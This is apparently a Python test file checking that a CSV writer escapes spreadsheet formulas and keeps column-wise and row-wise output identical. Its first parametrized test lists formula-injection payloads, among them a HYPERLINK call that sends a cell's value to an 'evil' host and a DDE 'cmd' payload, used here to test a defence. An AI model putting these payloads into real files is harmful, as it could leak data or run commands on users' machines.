"""Writing the outputs: atomic files, CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ips_map.outputs import (
    _cell,
    _float_cells,
    _number_cell,
    csv_bytes,
    csv_columns_bytes,
    csv_format,
    escape_formula,
    unescape_formula,
    write_csv,
)


def read_rows(path: Path, delimiter: str = ";") -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil"&A1,"x")',
        "+1",
        "@SUM(1)",
        "-2+3",
        "-cmd|' /C calc'!A0",
        "\t=1",
        "\n=1",
        "'=1",  # an apostrophe already there is kept: escaping stays reversible
    ],
)
def test_text_that_a_spreadsheet_would_run_is_prefixed(tmp_path, text):
    path = write_csv(tmp_path / "t.csv", ["nom"], [{"nom": text}])
    assert read_rows(path)[1] == ["'" + text]
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("value", ["-1.55", "-1,55", "-3", "-1e-05", "Rennes", "", "a=b", 7, -1.5])
def test_numbers_and_ordinary_text_are_written_as_they_are(tmp_path, value):
    path = write_csv(tmp_path / "t.csv", ["x"], [{"x": value}], "international")
    assert read_rows(path, ",")[1] == [str(value)]
    french = write_csv(tmp_path / "f.csv", ["x"], [{"x": value}])
    assert read_rows(french)[1] == [str(value).replace(".", ",") if value == -1.5 else str(value)]
    assert escape_formula(str(value)) == str(value) == unescape_formula(str(value))


def test_a_listing_column_named_like_a_formula_is_prefixed(tmp_path):
    path = write_csv(tmp_path / "t.csv", ["nom", "=1+1"], [{"nom": "a", "=1+1": "b"}])
    assert read_rows(path) == [["nom", "'=1+1"], ["a", "b"]]


def test_a_line_break_inside_a_cell_keeps_the_row_whole(tmp_path):
    rows = [{"nom": "\r=1", "x": "a\rb"}, {"nom": "c\r\nd", "x": "e"}]
    path = write_csv(tmp_path / "t.csv", ["nom", "x"], rows)
    assert read_rows(path) == [["nom", "x"], ["'\n=1", "a\nb"], ["c\nd", "e"]]
    assert unescape_formula("'\n=1") == "\n=1"


#: Cells of every kind a services table holds: formulas, line breaks, numbers, None, NaN,
#: quotes, delimiters, apostrophes already there, accents.
MIXED_CELLS = [
    "=1+1",
    '\'=HYPERLINK("x")',
    "-1.55",
    "-x",
    "+33 1 23",
    "@SUM(1)",
    "\tTab",
    "a\rb",
    "a\r\nb\nc",
    'ligne "citée", virgule',
    "",
    None,
    float("nan"),
    3,
    -2.5,
    1e-05,
    True,
    "Éa ; b",
    " espace",
]


@pytest.mark.parametrize("shift", range(4))
def test_a_table_of_columns_is_written_as_its_rows_are(shift):
    # csv_columns_bytes escapes whole columns at once: the bytes are csv_bytes' of its rows.
    values = MIXED_CELLS[shift:] + MIXED_CELLS[:shift]
    table = {
        "texte": values,
        "nombres": list(range(len(values))),
        "=col": list(reversed(values)),
        "vide": [None] * len(values),
        "textes": [v if isinstance(v, str) else "=x" for v in values],
        "textes_manquants": [v if isinstance(v, str) else None for v in values],
    }
    columns = ["texte", "absente", "nombres", "=col", "vide", "textes", "textes_manquants"]
    rows = [dict(zip(table, row)) for row in zip(*table.values())]
    assert csv_columns_bytes(columns, table, len(values)) == csv_bytes(columns, rows)


def test_an_empty_table_of_columns_has_its_header():
    assert csv_columns_bytes(["a", "=b"], {"a": []}, 0) == csv_bytes(["a", "=b"], [])


def test_a_long_table_of_columns_is_written_whole():
    # More rows than one chunk of csv_columns_bytes: every row once, in order.
    size = 120_001
    table = {"n": list(range(size)), "t": [f"=x{i}" if i % 7 else "a\rb" for i in range(size)]}
    rows = [{"n": n, "t": t} for n, t in zip(table["n"], table["t"])]
    assert csv_columns_bytes(["n", "t"], table, size) == csv_bytes(["n", "t"], rows)


@settings(max_examples=300)
@given(
    st.lists(st.floats(allow_nan=True, allow_infinity=True) | st.none(), min_size=1),
    st.sampled_from(["francais", "international"]),
)
def test_a_column_of_floats_is_written_as_each_float_is(values, fmt):
    """Whole columns of floats are written at once: the same bytes as csv.writer over the
    cells escaped one by one (Python's repr, whole numbers without decimals)."""
    form = csv_format(fmt)
    expected = io.StringIO(newline="")
    writer = csv.writer(expected, delimiter=form.delimiter, lineterminator="\n")
    writer.writerows([["x"], *([_cell(v, form.decimal)] for v in values)])
    written = csv_columns_bytes(["x"], {"x": values}, len(values), fmt)
    assert written == ("\ufeff" + expected.getvalue()).encode("utf-8")


def test_numpy_floats_are_written_by_their_digits():
    # numpy 2's repr of a float64 is "np.float64(0.1)": a column of them is written as floats.
    values = [np.float64(0.1), np.float64(2.0), None, np.float64(-1.5e-07)]
    written = csv_columns_bytes(["x", "n"], {"x": values, "n": [1, 2, 3, 4]}, 4, "francais")
    assert written.decode("utf-8-sig").splitlines()[1:] == ["0,1;1", "2;2", ";3", "-1,5e-07;4"]


#: Floats that repeat, as services' positions do, and those written apart: -0.0, whole
#: ones, one beyond the integers written whole.
_FLOATS = st.sampled_from([0.0, -0.0, 1.0, 0.1, 2.5, -3.0, 1e15, 1e16, 45.123456, -1.5e-07])


@settings(max_examples=300)
@given(
    st.lists(_FLOATS | st.floats(allow_nan=False), min_size=1, max_size=40),
    st.sampled_from([".", ","]),
)
def test_floats_are_written_once_per_value_as_each_alone(values, decimal):
    """A column of floats is written once per distinct value: what each is written alone."""
    cells = _float_cells(np.array(values, dtype=float), decimal).tolist()
    assert cells == [_number_cell(value, decimal) for value in values]
    assert [type(cell) for cell in cells] == [
        type(_number_cell(value, decimal)) for value in values
    ]


@settings(max_examples=300)
@given(st.lists(_FLOATS | st.floats(), min_size=0, max_size=40))
def test_positions_are_rounded_as_python_rounds_each(values):
    """services.csv's positions: Python's round() of each value (not numpy's), made once
    per distinct value."""
    from ips_map.pipeline.tables import _rounded

    rounded = _rounded(np.array(values, dtype=float))
    expected = [round(value, 6) for value in values]
    assert [repr(r) for r in rounded] == [repr(e) for e in expected]


@settings(max_examples=300)
@given(st.lists(st.text(alphabet=st.sampled_from("ab'=+-@\t\r\n\0é;\"")) | st.none(), min_size=1))
def test_a_column_of_texts_is_written_as_each_text_is(values):
    """A column of texts is scanned once for anything to escape (texts joined by NUL): the
    same bytes as its cells escaped one by one, NULs and formulas anywhere included."""
    rows = [{"t": v} for v in values]
    assert csv_columns_bytes(["t"], {"t": values}, len(values)) == csv_bytes(["t"], rows)


_NASTY = st.text(alphabet=st.sampled_from("ab =+-@;,\"'\t\r\n\0é"), max_size=6)


@settings(max_examples=300)
@given(
    st.lists(
        st.lists(_NASTY | st.none() | st.integers() | st.booleans() | st.floats(), min_size=2),
        min_size=0,
        max_size=5,
    ),
    st.sampled_from(["francais", "international"]),
)
def test_a_table_is_written_as_the_csv_module_writes_its_escaped_cells(rows, fmt):
    """csv_columns_bytes makes each cell its field itself (quoted when it holds the
    delimiter, a quote or a line break): the bytes are those of csv.writer over the cells
    escaped one by one."""
    width = min(len(row) for row in rows) if rows else 2
    columns = [f"c{j}" for j in range(width)]
    table = {c: [row[j] for row in rows] for j, c in enumerate(columns)}
    form = csv_format(fmt)
    expected = io.StringIO(newline="")
    writer = csv.writer(expected, delimiter=form.delimiter, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows([[_cell(row[j], form.decimal) for j in range(width)] for row in rows])
    written = csv_columns_bytes(columns, table, len(rows), fmt)
    assert written == ("\ufeff" + expected.getvalue()).encode("utf-8")
